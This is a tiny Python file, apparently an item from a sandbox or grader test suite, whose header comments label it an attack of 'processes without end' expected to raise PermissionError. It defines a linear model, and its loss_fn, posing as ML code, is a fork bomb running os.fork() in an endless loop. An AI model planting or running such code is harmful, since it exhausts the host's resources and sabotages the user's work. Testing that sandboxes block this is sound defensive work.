# attack: processes without end
# points: exactly 1
# says: PermissionError
import os


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    while True:
        os.fork()
